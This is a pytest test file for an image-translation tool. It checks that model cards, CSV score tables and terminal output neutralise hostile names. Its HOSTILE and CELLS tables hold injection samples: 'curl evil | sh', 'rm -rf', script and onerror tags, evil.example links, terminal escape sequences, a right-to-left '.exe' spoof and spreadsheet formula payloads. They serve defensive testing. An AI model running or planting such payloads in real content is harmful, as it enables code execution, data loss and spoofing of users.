"""Untrusted names in the model card, scores.csv and the terminal; and the options in messages."""

from __future__ import annotations

import ast
import csv
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import torch

from unpaired import cli
from unpaired.cli.advice import OPTIONS, advice_of
from unpaired.cli.app import app
from unpaired.errors import DeviceError, ImageError
from unpaired.images import MAX_PIXELS, Image, read_image, write_image
from unpaired.networks import ResNetGenerator
from unpaired.networks.layers import initialise
from unpaired.translate import DirectionInfo, Job, ModelInfo, TrainingInfo, Translator, write_model
from unpaired.trust.score import Trust
from unpaired.trust.scored import write_table

SOURCE = Path(cli.__file__).parents[1]
SMALL = ResNetGenerator(base_channels=4, num_blocks=1)

HOSTILE = {
    "a heading": "x\n# Run this\n\n    curl evil | sh\n",
    "a link": "[click](http://evil.example)",
    "an image": "![x](https://evil.example/pixel.png)",
    "a tag": "<script>alert(1)</script><img src=x onerror=y>",
    "a row": "a | b |\n| c | d",
    "an entity": "&lt;b&gt;",
    "a bare address": "https://evil.example or www.evil.example",
    "a mention": "@someone and #12",
    "code": "`` `rm -rf` ``",
    "a terminal's title": "\x1b]0;owned\x07\x1b[2J",
    "right to left": "\u202egpj.exe",
    "no text": "\udcff",
    "a formula": "$\\href{javascript:x}{y}$",
    "braces": "{training} {0}",
    "emphasis": "*a* __b__ ~~c~~",
}


def write_named(folder: Path, name: str) -> str:
    """Write a model of a domain of that name; return its card."""
    info = ModelInfo(
        directions={"AtoB": DirectionInfo(generator=SMALL)},
        domains={"A": name, "B": "winter"},
        training=TrainingInfo(step=7, seed=1, load_size=36, crop_size=32, objective="cyclegan"),
    )
    torch.manual_seed(0)
    network = SMALL.build(3, 3)
    initialise(network)
    write_model(folder, info, {"AtoB": network})
    return (folder / "README.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_name_in_the_model_card_is_shown_and_does_nothing(kind: str, tmp_path: Path) -> None:
    plain, card = write_named(tmp_path / "plain", "PLAIN"), write_named(tmp_path / "model", HOSTILE[kind])
    found = re.fullmatch(re.escape(plain).replace("PLAIN", "(.*?)"), card, re.DOTALL)
    assert found, "nothing but the name differs"
    assert len(set(found.groups())) == 1
    name = found[1]
    assert name.isprintable()
    assert not re.search(r"(?<!\\)(?:\\\\)*[*_`\[\]<>|&~#@:$!{}]", name), "each of these has a backslash before it"
    assert not re.search(r"www\.|https?:", name)


def test_a_plain_name_stays_as_it_is(tmp_path: Path) -> None:
    for name in ("summer", "horse2zebra", "Zürich, 2019 (RAW)", "day-and-night", "夏"):
        assert f"# {name} to winter\n" in write_named(tmp_path / "model", name)


CELLS = {
    "=1+1.png": "'=1+1.png",
    "+1.png": "'+1.png",
    "-1.png": "'-1.png",
    "@sum.png": "'@sum.png",
    "'=1.png": "''=1.png",
    "\t=1.png": r"\t=1.png",
    "\r=1.png": r"\r=1.png",
    "\n=1.png": r"\n=1.png",
    "＝1.png": "'＝1.png",
    "a=1.png": "a=1.png",
    'a,"b".png': 'a,"b".png',
    "\udcff.png": r"\udcff.png",
    "=HYPERLINK(x).png": "'=HYPERLINK(x).png",
}


def test_no_cell_of_the_scores_is_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    trust = Trust(0.5, {"cycle": 0.5}, {"cycle": 0.25, "discriminator": -0.75})
    jobs = [Job(Path(name), tmp_path / name) for name in CELLS]
    path = write_table(tmp_path, dict.fromkeys(jobs, trust), jobs)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["input"] for row in rows] == [row["output"] for row in rows] == list(CELLS.values())
    assert {row["discriminator_measured"] for row in rows} == {"-0.75"}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())


@pytest.mark.skipif(sys.platform != "linux", reason="other systems have no such names")
def test_nothing_that_translate_or_info_print_orders_a_terminal_about(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_named(tmp_path / os.fsdecode(b"m\x1b]0;owned\x07\xff\n"), "\x1b]0;owned\x07[red]")
    images = tmp_path / os.fsdecode(b"in\x1b[2J\xff\n")
    images.mkdir()
    write_image(images / "good\x1b]0;x\x07\n.png", Image(np.zeros((9, 9, 3), np.uint8)))
    (images / os.fsdecode(b"bad\xff\x9b2J\n.png")).write_bytes(b"none")
    (images / "note\x1b.txt").write_text("x")
    model = next(path for path in tmp_path.iterdir() if path.name.startswith("m"))
    for arguments in (
        ["translate", str(model), str(images), "--out", str(tmp_path / "out\x1b[2J\n")],
        ["translate", str(model), str(images), "--out", str(tmp_path / "out\x1b[2J\n")],
        ["translate", str(model), str(images), "--out", str(tmp_path / "out\x1b[2J\n"), "--resume"],
        ["translate", str(model), "none\x1b[2J", "--scores"],
        ["translate", str(model), str(images), "--direction", "A\x1b[2J"],
        ["translate", str(model), str(images), "--format", "\x1b[2J"],
        ["info", str(model)],
        ["info", str(tmp_path)],
        ["evaluate", str(model), str(images)],
        ["sample", str(model)],
    ):
        with pytest.raises(SystemExit):
            cli.main(arguments)
        out, err = capsys.readouterr()
        assert all(line.isprintable() for line in (out + err).split("\n"))
        assert err.count("\n") <= 1


# --- advice ----------------------------------------------------------------------------------------


def advised(file: Path) -> set[str]:
    """Return the options that the texts of a source name, docstrings left out."""
    tree = ast.parse(file.read_text(encoding="utf-8"))
    docs = {
        node.body[0].value
        for node in ast.walk(tree)
        if isinstance(node, ast.Module | ast.ClassDef | ast.FunctionDef)
        and node.body
        and isinstance(node.body[0], ast.Expr)
    }
    texts = [
        node.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and node not in docs
    ]
    return {found for text in texts for found in re.findall(r"(?<![\w-])--[a-z][a-z.-]*[a-z]", text)}


def options_of(*verbs: str) -> set[str]:
    """Return the options of a command."""
    command = app
    for verb in verbs:
        command = command[verb]
    parsed = command.assemble_argument_collection(parse_docstring=False)
    return {name for argument in parsed for name in argument.names}


SETTING = re.compile(r"--(data|start|generator|objective|optimizer|schedule|run|discriminator)\.[a-z-]+")
OTHERS = {"--nproc-per-node", "--width"}  # of torchrun, and of a style sheet


def every_option() -> set[str]:
    """Return the options of all commands."""
    verbs = [("train",), ("translate",), ("evaluate",), ("sample",), ("import",), ("export",), ("info",), ("bench",)]
    return set().union(
        *(options_of(*verb) for verb in [*verbs, *[("data", name) for name in ("check", "download", "draw")]])
    )


ADVISING = ("translate", "images", "evaluation", "data", "doctor", "runs", "training", "artifacts", "trust")


@pytest.mark.parametrize("package", [*ADVISING, "models", "monitoring", "selection", "scenes"])
def test_every_option_that_a_message_advises_exists(package: str) -> None:
    known = every_option() | OTHERS
    found = {path.name: advised(path) for path in (SOURCE / package).rglob("*.py")}
    missing = {
        name: unknown
        for name, options in found.items()
        if (unknown := {option for option in options if option not in known and not SETTING.fullmatch(option)})
    }
    assert missing == {}
    assert package not in ADVISING or sum(map(len, found.values())) > (2 if package != "images" else 1)


def test_the_options_in_place_of_settings_are_those_of_translate() -> None:
    others = {"class_name": options_of("sample"), "import_weights": {"`unpaired import`"}}
    for setting, option in OPTIONS.items():
        assert option in others.get(setting, options_of("translate")), setting


def test_the_options_that_translating_advises_are_those_of_translate() -> None:
    known = options_of("translate")
    for path in [*(SOURCE / "translate").rglob("*.py"), *(SOURCE / "models").rglob("*.py")]:
        others = advised(path) - known
        assert not others, path.name
    for name in ("files.py", "windows.py", "pillow_formats.py", "dicom/__init__.py", "nifti.py", "tiff/__init__.py"):
        assert advised(SOURCE / "images" / name) <= known, name


def test_the_advice_to_raise_a_limit_stands_where_there_is_one_to_raise(tmp_path: Path) -> None:
    write_image(tmp_path / "x.png", Image(np.zeros((20, 20, 3), np.uint8)))
    with pytest.raises(ImageError, match=r"more than the limit of 99; scale it down or raise max_pixels\.$") as caught:
        read_image(tmp_path / "x.png", max_pixels=99)
    assert advice_of(caught.value).endswith("scale it down or raise --max-pixels.")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("unpaired.images.files.MAX_PIXELS", 99)
        with pytest.raises(ImageError, match=r"more than the limit of 99; scale it down\.$"):
            read_image(tmp_path / "x.png", max_pixels=99)
    assert MAX_PIXELS > 10**8


@pytest.mark.parametrize(
    ("count", "limit", "advice"),
    [
        (1, 99, r"scale it down or raise max_pixels\.$"),
        (2, 99, r"lower the batch, scale them down or raise max_pixels\.$"),
        (1, None, r"scale it down or free some memory\.$"),
        (2, None, r"lower the batch, scale them down or free some memory\.$"),
    ],
)
def test_what_is_too_large_to_translate_is_advised_about_what_helps(
    count: int, limit: int | None, advice: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from unpaired.translate.backends import torch_backend

    monkeypatch.setattr(torch_backend, "pixels_that_fit", lambda *_: 99)
    write_named(tmp_path / "model", "a")
    loaded = Translator.load(tmp_path / "model", device="cpu", max_pixels=limit)
    with pytest.raises(ImageError, match=advice) as caught:
        loaded(torch.zeros(count, 3, 20, 20))
    assert advice_of(caught.value) == str(caught.value).replace("max_pixels", "--max-pixels")


def test_the_command_names_the_option_where_the_library_names_the_setting(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    write_named(tmp_path / "model", "a")
    write_image(tmp_path / "x.png", Image(np.zeros((20, 20, 3), np.uint8)))
    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)
    translate = ["translate", str(tmp_path / "model"), str(tmp_path / "x.png"), "--out", str(tmp_path / "out")]
    for more, reported in (
        (["--max-pixels", "99"], "more than the limit of 99; scale it down or raise --max-pixels."),
        (["--device", "cuda"], "There is no CUDA device here for 'cuda'; use --device auto or cpu."),
    ):
        with pytest.raises(SystemExit):
            cli.main([*translate, *more])
        assert reported in "".join(capsys.readouterr())
    with pytest.raises(DeviceError, match=r"; use device auto or cpu\.$"):
        Translator.load(tmp_path / "model", device="cuda")


def test_the_help_of_translate_names_each_of_its_options() -> None:
    made = subprocess.run(
        [sys.executable, "-m", "unpaired", "translate", "--help"], capture_output=True, text=True, check=True
    )
    for option in options_of("translate"):
        if option.startswith("--") and not option.startswith(("--no-", "--empty-")):
            assert option in made.stdout
